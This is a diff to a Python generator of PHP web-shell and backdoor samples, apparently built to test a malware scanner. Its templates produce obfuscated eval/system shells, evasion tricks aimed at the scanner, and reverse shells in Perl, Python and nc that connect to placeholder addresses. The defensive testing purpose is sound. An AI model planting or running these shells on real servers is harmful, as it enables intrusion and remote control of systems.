@@ -676,6 +676,345 @@ def t_shell_spawn(g):
     return php_file(g, body)
 
 
+def t_callback_more(g):
+    """Callbacks PHP calls for the caller, round 2: a reflection's closure,
+    Closure::fromCallable, an object's __invoke, the sort of an ArrayObject
+    or ArrayIterator, an error handler fed by trigger_error, YAML tag
+    callbacks, a header callback, a function picked from
+    get_defined_functions()."""
+    r = g.rng
+    name = r.choice(EXEC_NAMES + CODE_NAMES)
+    cb = g.enc(name)
+    x = g.src()
+    v, w = g.var(), g.var()
+    kind = r.choice(["getclosure", "fromcallable", "invoke", "arrayobject", "arrayiterator", "error_handler",
+                     "yaml", "header_cb", "defined_functions"])
+    g.transforms.add("cb2:" + kind)
+    if kind == "getclosure":
+        body = "%s = new ReflectionFunction(%s);\n%s = %s->getClosure();\necho %s(%s);" % (v, cb, w, v, w, x)
+    elif kind == "fromcallable":
+        body = "%s = Closure::fromCallable(%s);\necho %s(%s);" % (v, cb, v, x)
+    elif kind == "invoke":
+        cls = g.fname().capitalize()
+        sink = g.fn(r.choice(["eval", "system", "passthru", "assert"]))
+        p = g.var()
+        body = ("class %s\n{\n    public function __invoke(%s)\n    {\n        return %s(%s);\n    }\n}\n"
+                "%s = new %s();\necho %s(%s);" % (cls, p, sink, p, v, cls, v, x))
+    elif kind in ("arrayobject", "arrayiterator"):
+        cls = "ArrayObject" if kind == "arrayobject" else "ArrayIterator"
+        m = r.choice(["uasort", "uksort"]) if kind == "arrayiterator" else "uasort"
+        arr = "array(%s, %s)" % (x, g.lit("1")) if m == "uasort" else "array(%s => 1, 'b' => 2)" % x
+        body = "%s = new %s(%s);\n%s->%s(%s);" % (v, cls, arr, v, m, cb)
+    elif kind == "error_handler":
+        p1, p2 = g.var(), g.var()
+        sink = g.fn(r.choice(["eval", "system", "passthru", "assert"]))
+        if r.random() < 0.5:
+            body = ("%s(function (%s, %s) { %s(%s); return true; });\n%s(%s, E_USER_NOTICE);"
+                    % (g.fn("set_error_handler"), p1, p2, sink, p2, g.fn("trigger_error"), x))
+        else:
+            fnm = g.fname()
+            body = ("function %s(%s, %s)\n{\n    %s(%s);\n    return true;\n}\n%s(%s);\n%s(%s);"
+                    % (fnm, p1, p2, sink, p2, g.fn("set_error_handler"), g.lit(fnm),
+                       g.fn(r.choice(["trigger_error", "user_error"])), x))
+    elif kind == "yaml":
+        tag = "!" + g.ident()[:6]
+        body = ("%s = array(%s => %s);\n%s(%s, 0, %s, %s);"
+                % (v, g.lit(tag), cb, g.fn("yaml_parse"), x, w, v))
+    elif kind == "header_cb":
+        sink = g.fn(r.choice(["system", "passthru", "eval"]))
+        body = ("%s = %s;\n%s(function () use (%s) { %s(%s); });"
+                % (v, x, g.fn("header_register_callback"), v, sink, v))
+    else:
+        if r.random() < 0.5:
+            body = ("%s = %s()[%s];\n%s = array_search(%s, %s);\necho %s[%s](%s);"
+                    % (v, g.fn("get_defined_functions"), g.lit("internal"), w, cb, v, v, w, x))
+        else:
+            body = ("%s = %s();\n%s[%s][%d](%s);"
+                    % (v, g.fn("get_defined_functions"), v, g.lit("internal"), r.randint(300, 1800), x))
+    return php_file(g, body)
+
+
+def t_callback_later(g):
+    """Callees registered for PHP to call later, with arguments PHP supplies:
+    SQL functions of SQLite3/PDO, a session save handler, the PHP functions
+    an XSL stylesheet may call. The callee is folded or comes from input."""
+    r = g.rng
+    name = r.choice(EXEC_NAMES + CODE_NAMES)
+    from_input = r.random() < 0.3
+    cb = g.src() if from_input else g.enc(name, allow=["concat", "rot13", "strrev", "chr", "base64", "hex",
+                                                          "escapes", "xor", "implode", "replace"])
+    g.transforms.add("callee:" + ("input" if from_input else "folded"))
+    v, f = g.var(), g.var()
+    kind = r.choice(["sqlite3", "pdo", "session", "xslt"])
+    g.transforms.add("later:" + kind)
+    fnm = g.lit(g.ident()[:5])
+    if kind == "sqlite3":
+        body = ("%s = new SQLite3(':memory:');\n%s->createFunction(%s, %s, 1);\n%s->query(\"SELECT %s('\" . %s . \"')\");"
+                % (v, v, fnm, cb, v, fnm.strip("'\""), g.src()))
+    elif kind == "pdo":
+        body = ("%s = new PDO('sqlite::memory:');\n%s->sqliteCreateFunction(%s, %s, 1);\n%s->query('SELECT 1');"
+                % (v, v, fnm, cb, v))
+    elif kind == "session":
+        body = ("%s = %s;\n%s(%s, %s, %s, %s, %s, %s);\n%s();"
+                % (f, cb, g.fn("session_set_save_handler"), f, f, f, f, f, f, g.fn("session_start")))
+    else:
+        body = ("%s = new XSLTProcessor();\n%s->registerPHPFunctions(%s);" % (v, v, cb)
+                if r.random() < 0.5 else
+                "%s = new XSLTProcessor();\n%s->registerPHPFunctions(array(%s));" % (v, v, cb))
+    return php_file(g, body)
+
+
+def t_fold_more(g):
+    """A callee name built by a while or do-while loop, written into a
+    placeholder at string offsets, padded (str_pad), formatted (vsprintf),
+    from chr() of ceil/floor, or the keys of a literal array."""
+    r = g.rng
+    name = r.choice(EXEC_NAMES + CODE_NAMES)
+    o, s, i, k = g.var(), g.var(), g.var(), g.var()
+    form = r.choice(["while_xor", "do_shift", "while_array", "offsets", "str_pad", "vsprintf", "ceil", "keys",
+                     "array_text"])
+    g.transforms.add("fold:" + form)
+    if form == "while_xor":
+        key = "".join(r.choice("abcdefghjkmnpqrstuvwxyz23456789") for _ in range(r.randint(2, 5)))
+        data = "".join("\\x%02x" % (ord(c) ^ ord(key[j % len(key)])) for j, c in enumerate(name))
+        g.stmt("%s = \"%s\";" % (s, data))
+        g.stmt("%s = %s;" % (k, php_sq(key)))
+        build = ("%s = '';\n%s = 0;\nwhile (%s < strlen(%s)) {\n    %s .= %s[%s] ^ %s[%s %% strlen(%s)];\n    %s++;\n}"
+                 % (o, i, i, s, o, s, i, k, i, k, i))
+    elif form == "do_shift":
+        n = r.randint(1, 6)
+        g.stmt("%s = %s;" % (s, php_sq("".join(chr(ord(c) + n) for c in name))))
+        build = ("%s = '';\n%s = 0;\ndo {\n    %s .= chr(ord(%s[%s]) - %d);\n} while (++%s < strlen(%s));"
+                 % (o, i, o, s, i, n, i, s))
+    elif form == "while_array":
+        g.stmt("%s = array(%s);" % (s, ", ".join(php_sq(c) for c in reversed(name))))
+        build = ("%s = '';\n%s = count(%s);\nwhile (%s > 0) {\n    %s--;\n    %s .= %s[%s];\n}"
+                 % (o, i, s, i, i, o, s, i))
+    elif form == "offsets":
+        idx = list(range(len(name)))
+        r.shuffle(idx)
+        build = "%s = %s;\n" % (o, php_sq(r.choice(["_", "x", "."]) * len(name)))
+        build += "\n".join("%s[%d] = %s;" % (o, j if r.random() < 0.7 else j - len(name), php_sq(name[j]))
+                           for j in idx)
+    elif form == "str_pad":
+        cut = r.randint(1, len(name) - 1)
+        if r.random() < 0.5:
+            build = "%s = str_pad(%s, %d, %s);" % (o, php_sq(name[:cut]), len(name), php_sq(name[cut:]))
+        else:
+            build = "%s = str_pad(%s, %d, %s, STR_PAD_LEFT);" % (o, php_sq(name[cut:]), len(name), php_sq(name[:cut]))
+    elif form == "vsprintf":
+        parts = [name[j:j + 2] for j in range(0, len(name), 2)]
+        build = "%s = vsprintf(%s, array(%s));" % (o, php_sq("%s" * len(parts)), ", ".join(php_sq(p) for p in parts))
+    elif form == "ceil":
+        fn = r.choice(["ceil", "floor"])
+        c = ord(name[0])
+        lit = "%d.%d" % (c - 1, r.randint(1, 9)) if fn == "ceil" else "%d.%d" % (c, r.randint(1, 9))
+        build = "%s = chr(%s(%s)) . %s;" % (o, fn, lit, php_sq(name[1:]))
+    elif form == "array_text":
+        # "Array"[n] incremented to each letter of the name
+        a = g.var()
+        g.stmt("%s = %s;" % (a, r.choice(["[] . ''", "@\"\" . array()"])))
+        parts = []
+        for ch in name:
+            if not ch.isalpha():
+                parts.append(php_sq(ch))
+                continue
+            src_i, src_c = max(((j, c) for j, c in enumerate("Array") if c.lower() <= ch),
+                               key=lambda t: t[1].lower())
+            t = g.var()
+            steps = ord(ch) - ord(src_c.lower()) if src_c.islower() else ord(ch) - ord("a")
+            if src_c.isupper():
+                g.stmt("%s = strtolower(%s[%d]);" % (t, a, src_i))
+            else:
+                g.stmt("%s = %s[%d];" % (t, a, src_i))
+            for _ in range(steps):
+                g.stmt("%s++;" % t)
+            parts.append(t)
+        build = "%s = %s;" % (o, " . ".join(parts))
+    else:
+        if r.random() < 0.5:
+            build = ("%s = array_keys(array(%s => 1, %s => 2));\n%s = %s[0];"
+                     % (k, php_sq(name), php_sq(g.ident()), o, k))
+        else:
+            build = "%s = array_flip(array(%s => %d));\n%s = %s[%d];" % (k, php_sq(name), 7, o, k, 7)
+    body = "%s\n%s%s(%s);" % (build, "echo " if name in ("shell_exec", "exec") else g.at(), o, g.cast(g.src()))
+    return php_file(g, body)
+
+
+def t_cmd_wrapper(g):
+    """A function that runs its parameter with whichever command function
+    the host left enabled: function_exists/is_callable checks, a list
+    walked, disable_functions read. Called with input, or not called."""
+    r = g.rng
+    fnm, c, f, d, out = g.fname(), g.var(), g.var(), g.var(), g.var()
+    names = r.sample(["system", "shell_exec", "passthru", "exec", "popen"], r.randint(2, 4))
+    check = r.choice(["function_exists", "is_callable"])
+    form = r.choice(["chain", "list", "disabled"])
+    g.transforms.add("wrap:" + form)
+
+    def call(n):
+        if n == "exec":
+            return "exec(%s, %s);\n        return implode(\"\\n\", %s);" % (c, out, out)
+        if n == "shell_exec":
+            return "return shell_exec(%s);" % c
+        if n == "popen":
+            return "%s = popen(%s, 'r');\n        return fread(%s, 65536);" % (out, c, out)
+        return "ob_start();\n        %s(%s);\n        return ob_get_clean();" % (n, c)
+    if form == "chain":
+        parts = []
+        for j, n in enumerate(names):
+            parts.append("%s (%s(%s)) {\n        %s\n    }" % ("if" if j == 0 else "elseif", g.fn(check), php_sq(n), call(n)))
+        body = "function %s(%s)\n{\n    %s\n    return '';\n}\n" % (fnm, c, " ".join(parts))
+    elif form == "list":
+        body = ("function %s(%s)\n{\n    foreach (array(%s) as %s) {\n        if (%s(%s)) {\n"
+                "            return %s(%s);\n        }\n    }\n    return false;\n}\n"
+                % (fnm, c, ", ".join(php_sq(n) for n in names), f, g.fn(check), f, f, c))
+    else:
+        g.stmt("%s = array_map('trim', explode(',', ini_get('disable_functions')));" % d)
+        parts = []
+        for j, n in enumerate(names[:2]):
+            parts.append("%s (!in_array(%s, %s)) {\n        %s\n    }" % ("if" if j == 0 else "elseif", php_sq(n), d, call(n)))
+        body = "function %s(%s)\n{\n    global %s;\n    %s\n    return '';\n}\n" % (fnm, c, d, " ".join(parts))
+    if r.random() < 0.6:
+        body += "echo %s(%s);\n" % (fnm, g.src())
+        g.transforms.add("wrap:called")
+    return php_file(g, body)
+
+
+def t_branch_default(g):
+    """The command or code from the request, with a default set in a branch
+    when it is empty: after the if, either value reaches the sink."""
+    r = g.rng
+    c = g.var()
+    kind = r.choice(["cmd", "cmd", "code"])
+    default = r.choice(["id", "ls -la", "uname -a", "whoami", "pwd"]) if kind == "cmd" else "phpinfo();"
+    cond = r.choice(["!%s", "empty(%s)", "%s == ''", "strlen(%s) < 1", "!isset(%s)"]) % c
+    g.transforms.add("default:" + cond.split("(")[0].replace(c, "$v").strip())
+    g.stmt("%s = %s;" % (c, g.src()))
+    if r.random() < 0.5:
+        g.stmt("if (%s) {\n    %s = %s;\n}" % (cond, c, php_sq(default)))
+    else:
+        g.stmt("if (%s)\n    %s = %s;\nelse\n    echo '<pre>';" % (cond, c, php_sq(default)))
+    if kind == "cmd":
+        sink = r.choice(["system", "passthru", "shell_exec", "exec"])
+        arg = r.choice(["%s", "\"%s 2>&1\"", "%s . ' 2>&1'"]) % c
+        body = ("echo " if sink in ("shell_exec", "exec") else "") + "%s%s(%s);" % (g.at(), g.fn(sink), arg)
+    else:
+        body = "%s(%s);" % (g.fn(r.choice(["eval", "assert"])), c)
+    return php_file(g, body)
+
+
+def t_unknown_key(g):
+    """A callee decrypted with a key the scanner cannot know (part of the
+    file's own name, the server's name), or the request's headers taken
+    from $_SERVER by position."""
+    r = g.rng
+    name = r.choice(EXEC_NAMES + CODE_NAMES)
+    f, k = g.var(), g.var()
+    form = r.choice(["file_key", "server_key", "server_list"])
+    g.transforms.add("key:" + form)
+    if form == "file_key":
+        key = r.choice(["substr(__FILE__, -5, -4)", "basename(__FILE__, '.php')", "md5(__FILE__)"])
+        g.stmt("%s = %s;" % (k, key))
+        body = "%s = %s ^ %s;\n%s%s(%s);" % (f, g.fn("base64_decode") + "(%s)" % php_sq(b64(name.encode())), k,
+                                             g.at(), f, g.src())
+    elif form == "server_key":
+        g.stmt("%s = $_SERVER[%s];" % (k, php_sq(r.choice(["SERVER_NAME", "DOCUMENT_ROOT", "SERVER_ADDR"]))))
+        body = "%s = %s(%s(%s));\n%s%s(%s);" % (f, g.fn("str_rot13"), g.fn("base64_decode"), k, g.at(), f, g.src())
+    else:
+        n = r.randint(2, 30)
+        fn = r.choice(["array_values", "array_slice"])
+        arr = "%s($_SERVER)" % fn if fn == "array_values" else "array_slice($_SERVER, %d)" % n
+        sink = r.choice(["system", "passthru", "eval", "assert"])
+        body = "%s = %s;\n%s(%s[%d]);" % (k, arr, g.fn(sink), k, r.randint(0, 9))
+    return php_file(g, body)
+
+
+def t_script_drop(g):
+    """The request's code written into a program's source (C, Perl, Python,
+    shell, Java), then compiled or interpreted by a command: a shell in
+    another language."""
+    r = g.rng
+    lang = r.choice(["c", "pl", "py", "sh", "java", "rb"])
+    g.transforms.add("drop:" + lang)
+    path, data, cmd, out = g.var(), g.var(), g.var(), g.var()
+    where = r.choice(["/tmp/", "/dev/shm/.", "sys_get_temp_dir() . '/", "__DIR__ . '/"])
+    stem = r.choice(["md5(uniqid())", "mt_rand()", "time()", php_sq(g.ident()[:6])])
+    if where.endswith("'/"):
+        g.stmt("%s = %s' . %s . '.%s';" % (path, where, stem, lang))
+    else:
+        g.stmt("%s = '%s' . %s . '.%s';" % (path, where, stem, lang))
+    src = g.src()
+    if r.random() < 0.3:
+        src = "%s(%s)" % (g.fn("base64_decode"), src)
+    g.stmt("%s = %s;" % (data, src))
+    if r.random() < 0.5:
+        write = "%s(%s, %s);" % (g.fn("file_put_contents"), path, data)
+    else:
+        h = g.var()
+        write = "%s = %s(%s, 'w');\n%s(%s, %s);\nfclose(%s);" % (h, g.fn("fopen"), path, g.fn(r.choice(["fwrite", "fputs"])), h, data, h)
+    run = {"c": "'gcc ' . %s . ' -o /tmp/.b && /tmp/.b'" % path, "pl": "'perl ' . %s" % path,
+           "py": "'python3 ' . %s" % path, "sh": "'/bin/sh ' . %s" % path,
+           "java": "'java ' . %s" % path, "rb": "'nohup ruby ' . %s . ' &'" % path}[lang]
+    sink = r.choice(["system", "passthru", "shell_exec", "exec"])
+    body = "%s\n%s = %s;\n%s%s(%s . ' 2>&1');" % (write, cmd, run, "echo " if sink in ("shell_exec", "exec") else "",
+                                                 g.fn(sink), cmd)
+    return php_file(g, body)
+
+
+def t_decoded_drop(g):
+    """A program carried encoded in the PHP file (a Perl or shell back door),
+    written out to a source file and started: nothing from the request."""
+    r = g.rng
+    h, p = "192.0.2.%d" % r.randint(1, 254), r.randint(1025, 65000)
+    prog = r.choice([
+        ("pl", "use Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
+               "connect(S, sockaddr_in(%d, inet_aton('%s')));\nopen(STDIN, '>&S'); open(STDOUT, '>&S');\n"
+               "exec('/bin/sh -i');\n" % (p, h), "perl"),
+        ("sh", "#!/bin/sh\nwhile true; do nc %s %d -e /bin/sh; sleep 30; done\n" % (h, p), "sh"),
+        ("py", "import socket,os\ns=socket.create_connection(('%s',%d))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\n"
+               "os.execv('/bin/sh',['sh'])\n" % (h, p), "python3"),
+    ])
+    ext, code, run = prog
+    g.transforms.add("drop:" + ext)
+    v, f = g.var(), g.var()
+    g.stmt("%s = %s;" % (v, php_sq(b64(code.encode()))))
+    name = r.choice(["/tmp/.%s." % g.ident()[:4], "./%s." % g.ident()[:5], "/dev/shm/."])
+    if r.random() < 0.5:
+        write = "%s(%s, %s(%s));" % (g.fn("file_put_contents"), php_sq(name + ext), g.fn("base64_decode"), v)
+    else:
+        write = ("%s = fopen(%s, 'w');\nfwrite(%s, %s(%s));\nfclose(%s);"
+                 % (f, php_sq(name + ext), f, g.fn("base64_decode"), v, f))
+    sink = r.choice(["system", "shell_exec", "exec", "passthru"])
+    body = "%s\n%s(%s);" % (write, g.fn(sink), php_sq("nohup %s %s%s > /dev/null 2>&1 &" % (run, name, ext)))
+    return php_file(g, body)
+
+
+def t_split_payload(g):
+    """A long payload (a whole shell) encoded and split into hundreds of
+    literal pieces joined with `.`, then decoded and evaluated (or given to
+    create_function): the pieces must be joined whole to be judged."""
+    r = g.rng
+    lines = []
+    for j in range(r.randint(1500, 3000)):
+        lines.append("$%s%d = %s;" % (g.ident()[:5], j, php_sq(g.ident() * r.randint(1, 4))))
+    core = r.choice(["eval($_POST[%s]);", "system($_REQUEST[%s]);", "echo shell_exec($_COOKIE[%s]);"]) % php_sq(g.key())
+    lines.insert(r.randrange(len(lines)), core)
+    code = "\n".join(lines)
+    enc = b64(code.encode())
+    step = r.choice([60, 64, 68, 76])
+    pieces = [enc[j:j + step] for j in range(0, len(enc), step)]
+    v = g.var()
+    g.transforms.add("pieces:%d" % (len(pieces) // 100 * 100))
+    body = "%s =\n    %s;\n" % (v, " .\n    ".join(php_sq(x) for x in pieces))
+    if r.random() < 0.5:
+        body += "%s(%s(%s));" % (g.fn("eval"), g.fn("base64_decode"), v)
+    else:
+        f = g.var()
+        body += "%s = %s('', %s(%s));\n%s();" % (f, g.fn("create_function"), g.fn("base64_decode"), v, f)
+    return php_file(g, body)
+
+
 # ---------------------------------------------------------------------------
 # benign templates: look like the malicious ones to a byte pattern
 
@@ -835,6 +1174,46 @@ def b_loop_table(g):
     return php_file(g, body)
 
 
+def b_app_callbacks(g):
+    """The same built-ins as applications use them: sorts by a method, SQL
+    functions that are PHP's own string functions, an error handler that
+    logs, loops over rows and lines, a command helper that checks exec()."""
+    r = g.rng
+    form = r.randrange(5)
+    if form == 4:
+        body = ("$notes = trim((string) $_POST['notes']);\n"
+                "file_put_contents(__DIR__ . '/data/notes.txt', $notes . \"\\n\", FILE_APPEND | LOCK_EX);\n"
+                "file_put_contents('/tmp/app-build.sh', \"#!/bin/sh\\nset -e\\nmake -C \" . escapeshellarg(__DIR__) . \"\\n\");\n"
+                "exec('/bin/sh /tmp/app-build.sh', $out, $rc);\n")
+    elif form == 0:
+        body = ("class Collection\n{\n    private $items;\n    public function __construct(array $items) { $this->items = $items; }\n"
+                "    public function cmp($a, $b) { return strcmp($a['name'], $b['name']); }\n"
+                "    public function sorted()\n    {\n        $o = new ArrayObject($this->items);\n"
+                "        $o->uasort(array($this, 'cmp'));\n        return $o->getArrayCopy();\n    }\n}\n")
+    elif form == 1:
+        body = ("$pdo = new PDO('sqlite:' . __DIR__ . '/data/app.sqlite');\n"
+                "$pdo->sqliteCreateFunction('regexp', 'preg_match', 2);\n"
+                "$pdo->sqliteCreateFunction('lower_ascii', 'strtolower', 1);\n"
+                "$st = $pdo->prepare('SELECT * FROM pages WHERE slug REGEXP ?');\n$st->execute(array('/^' . preg_quote((string) $_GET['p'], '/') . '/'));\n"
+                "while ($row = $st->fetch()) {\n    echo htmlspecialchars($row['title']);\n}\n")
+    elif form == 2:
+        body = ("function app_log_error($no, $msg, $file = '', $line = 0)\n{\n"
+                "    error_log(sprintf('[%d] %s in %s:%d', $no, $msg, $file, $line));\n    return true;\n}\n"
+                "set_error_handler('app_log_error');\n"
+                "if (!isset($_GET['page'])) {\n    trigger_error('no page given: ' . $_SERVER['REQUEST_URI'], E_USER_NOTICE);\n}\n"
+                "$i = 0;\n$out = '';\nwhile ($i < 16) {\n    $out .= dechex($i);\n    $i++;\n}\n"
+                "$mask = '----------------';\n$mask[3] = 'x';\necho str_pad($out, 20, '0', STR_PAD_LEFT), $mask;\n")
+    else:
+        body = ("$view = isset($_GET['view']) ? (string) $_GET['view'] : '';\n"
+                "if (!preg_match('/^[a-z_]{1,32}$/', $view)) {\n    $view = 'home';\n}\n"
+                "require __DIR__ . '/views/' . $view . '.php';\n"
+                "function app_has_exec()\n{\n    return function_exists('exec') && !in_array('exec', "
+                "array_map('trim', explode(',', ini_get('disable_functions'))));\n}\n"
+                "function app_image_info($path)\n{\n    if (!app_has_exec()) {\n        return null;\n    }\n"
+                "    exec('/usr/bin/identify ' . escapeshellarg($path), $out, $rc);\n    return $rc === 0 ? $out : null;\n}\n")
+    return php_file(g, body)
+
+
 # name, function, class, language (extension), expect
 TEMPLATES = [
     ("eval_input", t_eval_input, "malicious", "php", "high"),
@@ -863,6 +1242,15 @@ TEMPLATES = [
     ("sh_revshell", t_sh_revshell, "malicious", "sh", "high"),
     ("loop_decrypt", t_loop_decrypt, "malicious", "php", "high"),
     ("shell_spawn", t_shell_spawn, "malicious", "php", "high"),
+    ("callback_more", t_callback_more, "malicious", "php", "high"),
+    ("callback_later", t_callback_later, "malicious", "php", "any"),
+    ("fold_more", t_fold_more, "malicious", "php", "high"),
+    ("cmd_wrapper", t_cmd_wrapper, "malicious", "php", "any"),
+    ("branch_default", t_branch_default, "malicious", "php", "high"),
+    ("unknown_key", t_unknown_key, "malicious", "php", "high"),
+    ("script_drop", t_script_drop, "malicious", "php", "high"),
+    ("decoded_drop", t_decoded_drop, "malicious", "php", "any"),
+    ("split_payload", t_split_payload, "malicious", "php", "high"),
     ("fixed_exec", b_fixed_exec, "benign", "php", "none"),
     ("template_eval", b_template_eval, "benign", "php", "none"),
     ("updater", b_updater, "benign", "php", "none"),
@@ -874,6 +1262,7 @@ TEMPLATES = [
     ("encoded_asset", b_encoded_asset, "benign", "php", "none"),
     ("cli_tool", b_cli_tool, "benign", "php", "none"),
     ("loop_table", b_loop_table, "benign", "php", "none"),
+    ("app_callbacks", b_app_callbacks, "benign", "php", "none"),
 ]
 
 # the second set of script backdoors and look-alikes (tests/eval/scriptgen.py)
